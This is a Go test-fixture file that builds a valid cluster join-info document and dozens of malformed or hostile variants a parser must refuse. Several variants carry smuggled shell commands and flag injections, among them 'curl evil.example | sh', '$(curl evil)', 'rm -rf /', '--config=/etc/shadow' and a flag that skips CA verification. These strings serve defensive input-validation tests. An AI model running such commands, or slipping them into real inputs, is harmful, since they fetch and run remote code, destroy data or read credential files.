// Package jointest holds join info documents for tests: a valid one and the
// malformed or hostile ones every reader must refuse.
package jointest

import (
	"bytes"
	"encoding/json"
	"math"
	"sort"
	"strings"
	"time"

	"github.com/kubestrap/kubestrap/internal/join"
)

// Now is when the test documents were issued; they are valid for two hours.
var Now = time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC)

// Expect returns what a reader of the test documents expects: cluster "demo",
// a minute after Now, with a safety margin of two minutes.
func Expect() join.Expectations {
	return join.Expectations{Cluster: "demo", Now: Now.Add(time.Minute), Margin: 2 * time.Minute}
}

// ValidDoc returns a valid join info document (cluster "demo") as a map, for tests to mutate.
func ValidDoc() map[string]any {
	return map[string]any{
		"apiVersion":        join.APIVersion,
		"kind":              join.Kind,
		"cluster":           "demo",
		"apiServerEndpoint": "10.0.1.10:6443",
		"token":             "abcdef.0123456789abcdef",
		"caCertHashes":      []any{"sha256:" + strings.Repeat("ab", 32)},
		"kubernetesVersion": "v1.37.2",
		"issuedAt":          Now.Format(time.RFC3339),
		"expiresAt":         Now.Add(2 * time.Hour).Format(time.RFC3339),
		"generation":        7,
	}
}

// MustJSON encodes v.
func MustJSON(v any) []byte {
	b, _ := json.Marshal(v) // maps of plain values always encode
	return b
}

// With returns the valid document with key set to value.
func With(key string, value any) []byte {
	d := ValidDoc()
	d[key] = value
	return MustJSON(d)
}

// Without returns the valid document without key.
func Without(key string) []byte {
	d := ValidDoc()
	delete(d, key)
	return MustJSON(d)
}

// WithDuplicate returns the valid document with key given a second time,
// with value, after all the others: a reader that lets the last value win sees
// value, one that keeps the first sees the valid one.
func WithDuplicate(key string, value any) []byte {
	doc := MustJSON(ValidDoc())
	return append(append(doc[:len(doc)-1:len(doc)-1], ","+string(MustJSON(key))+":"+string(MustJSON(value))...), '}')
}

// Renamed returns the valid document with key from spelled to instead, same value.
func Renamed(from, to string) []byte {
	d := ValidDoc()
	d[to] = d[from]
	delete(d, from)
	return MustJSON(d)
}

// HostileCase is one malformed or hostile join info document. Each is the
// valid document with exactly one thing changed (or, for the few whole-document
// cases, a document that is not join info at all), so it can be refused for
// its reason only.
type HostileCase struct {
	Name string
	Body []byte
	// Field is the field the rejection must name ("" for whole-document problems).
	Field string
	// Reason is a phrase the rejection's message must contain.
	Reason string
}

// HostileCases are the malformed and hostile documents every reader must refuse.
// Fields and reasons are those a reader with Expect() gives; a reader at any
// time from Now on with a margin of two minutes refuses them too.
func HostileCases() []HostileCase {
	const (
		ep      = "apiServerEndpoint"
		badEP   = "must be host:port"
		badPort = "port must be"
		badHost = "host must be"
		notIPv4 = "not a canonical IPv4 address"
		badTok  = "is not of the form"
		hashes  = "caCertHashes"
		badHash = "is not of the form sha256:"
	)
	shellToken := "abcdef.0123456789abcdef; curl evil.example | sh"
	valid := MustJSON(ValidDoc())
	cases := []HostileCase{
		{"shell metacharacters in endpoint", With(ep, "10.0.1.10:6443;reboot"), ep, badPort},
		{"command substitution in endpoint", With(ep, "$(curl evil):6443"), ep, badHost},
		{"flag injection in endpoint", With(ep, "--config=/etc/shadow"), ep, badEP},
		{"URL instead of host:port", With(ep, "https://10.0.1.10:6443"), ep, badEP},
		{"endpoint without port", With(ep, "10.0.1.10"), ep, badEP},
		{"endpoint port out of range", With(ep, "10.0.1.10:70000"), ep, badPort},
		{"endpoint port zero", With(ep, "10.0.1.10:0"), ep, badPort},
		{"endpoint port with a leading zero", With(ep, "10.0.1.10:06443"), ep, badPort},
		{"endpoint port with a sign", With(ep, "10.0.1.10:+6443"), ep, badPort},
		{"newline in endpoint", With(ep, "10.0.1.10:6443\nrm -rf /"), ep, badPort},
		{"non-ASCII host", With(ep, "kubé.example.com:6443"), ep, badHost},
		{"path in endpoint", With(ep, "api.example.com:6443/evil"), ep, badPort},
		{"brackets around an IPv4 address", With(ep, "[10.0.1.10]:6443"), ep, "brackets are only for an IPv6 address"},
		{"brackets around a DNS name", With(ep, "[api.demo.internal]:6443"), ep, "brackets are only for an IPv6 address"},
		{"IPv4 octet with a leading zero (octal)", With(ep, "010.0.1.10:6443"), ep, notIPv4},
		{"IPv4 octet in hex", With(ep, "0x0a.0.1.10:6443"), ep, notIPv4},
		{"short IPv4 form", With(ep, "10.1:6443"), ep, notIPv4},
		{"IPv4 as one integer", With(ep, "167772426:6443"), ep, notIPv4},
		{"IPv6 zone in endpoint", With(ep, "[fe80::1%eth0]:6443"), ep, "zone"},
		{"IPv6 without brackets", With(ep, "fd00::10:6443"), ep, badEP},
		{"shell metacharacters in token", With("token", shellToken), "token", badTok},
		{"flag injection in token", With("token", "--discovery-token-unsafe-skip-ca-verification"), "token", badTok},
		{"uppercase token", With("token", "ABCDEF.0123456789ABCDEF"), "token", badTok},
		{"short token secret", With("token", "abcdef.0123"), "token", badTok},
		{"newline in token", With("token", "abcdef.0123456789abcdef\n"), "token", badTok},
		{"no CA hashes", With(hashes, []any{}), hashes, "at least one"},
		{"null CA hashes", With(hashes, nil), hashes, "at least one"},
		{"17 CA hashes", With(hashes, repeat("sha256:"+strings.Repeat("ab", 32), 17)), hashes, "more than 16"},
		{"bad hash algorithm", With(hashes, []any{"md5:" + strings.Repeat("ab", 16)}), hashes + "[0]", badHash},
		{"uppercase hash hex", With(hashes, []any{"sha256:" + strings.Repeat("AB", 32)}), hashes + "[0]", badHash},
		{"hash with shell suffix", With(hashes, []any{"sha256:" + strings.Repeat("ab", 32) + "`id`"}), hashes + "[0]", badHash},
		{"flag injection in hash", With(hashes, []any{"--discovery-token-unsafe-skip-ca-verification"}), hashes + "[0]", badHash},
		{"wrong cluster", With("cluster", "prod"), "cluster", "this node belongs to"},
		{"shell metacharacters in cluster", With("cluster", "demo;id"), "cluster", "this node belongs to"},
		{"unknown apiVersion", With("apiVersion", "kubestrap.dev/v2"), "apiVersion", "must be"},
		{"wrong kind", With("kind", "Secret"), "kind", "must be"},
		// After issuedAt, before the reader's now.
		{"expired", With("expiresAt", Now.Add(30*time.Second).Format(time.RFC3339)), "expiresAt", "token expired"},
		{"expires inside the safety margin", With("expiresAt", Now.Add(90*time.Second).Format(time.RFC3339)), "expiresAt", "safety margin"},
		{"issued in the future", With("issuedAt", Now.Add(time.Hour).Format(time.RFC3339)), "issuedAt", "in the future"},
		{"issuedAt not a time", With("issuedAt", "yesterday"), "", "not valid join info JSON"},
		{"non-ASCII kubernetesVersion", With("kubernetesVersion", "v1.37.2\u202e"), "kubernetesVersion", "is not a version"},
		{"flag in kubernetesVersion", With("kubernetesVersion", "--v=10"), "kubernetesVersion", "is not a version"},
		{"zero generation", With("generation", 0), "generation", "positive"},
		{"negative generation", With("generation", -3), "generation", "positive"},
		{"generation above 2^53-1", With("generation", join.MaxGeneration+1), "generation", "above the largest generation"},
		{"generation at MaxInt64", With("generation", int64(math.MaxInt64)), "generation", "above the largest generation"},
		{"generation beyond int64", With("generation", json.Number("9223372036854775808")), "", "not valid join info JSON"},
		{"fractional generation", With("generation", 7.5), "", "not valid join info JSON"},
		{"generation as string", With("generation", "7"), "", "not valid join info JSON"},
		{"unknown field", With("command", "kubeadm join --token x"), "", "unknown field"},
		{"duplicate endpoint key", WithDuplicate(ep, "10.0.1.11:6443"), ep, "given twice"},
		{"duplicate token key", WithDuplicate("token", "zzzzzz.0123456789abcdef"), "token", "given twice"},
		{"duplicate key with the same value", WithDuplicate("generation", 7), "generation", "given twice"},
		{"case-variant duplicate token key", WithDuplicate("Token", "zzzzzz.0123456789abcdef"), "token", "differ only by case"},
		{"key spelled with another case", Renamed("token", "Token"), "token", "must be spelled"},
		{"key spelled with a Kelvin sign", Renamed("kind", "Kind"), "kind", "must be spelled"},
		{"not JSON", []byte("#!/bin/sh\nkubeadm join 10.0.1.10:6443 --token abcdef.0123456789abcdef\n"), "", "not valid join info JSON"},
		{"single-quoted key", bytes.Replace(valid, []byte(`"kind"`), []byte(`'kind'`), 1), "", "not valid join info JSON"},
		{"byte order mark", append([]byte("\ufeff"), valid...), "", "not valid join info JSON"},
		{"JSON array around the document", append(append([]byte("["), valid...), ']'), "", "not valid join info JSON"},
		{"empty body", []byte(""), "", "empty"},
		{"whitespace-only body", []byte(" \n\t "), "", "empty"},
		{"oversize object", append(valid, []byte(strings.Repeat(" ", join.MaxSize))...), "", "larger than"},
		{"trailing garbage", append(valid, []byte(" {}")...), "", "not valid join info JSON"},
	}
	// Every key but the optional kubernetesVersion is required.
	missing := map[string]string{
		"apiVersion": "must be", "kind": "must be", "cluster": "this node belongs to", ep: badEP, "token": badTok,
		hashes: "at least one", "issuedAt": "is required", "expiresAt": "is required", "generation": "positive",
	}
	for _, key := range sortedKeys(ValidDoc()) {
		if key != "kubernetesVersion" {
			cases = append(cases, HostileCase{"missing " + key, Without(key), key, missing[key]})
		}
	}
	return cases
}

func repeat(s string, n int) []any {
	out := make([]any, n)
	for i := range out {
		out[i] = s
	}
	return out
}

func sortedKeys(m map[string]any) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
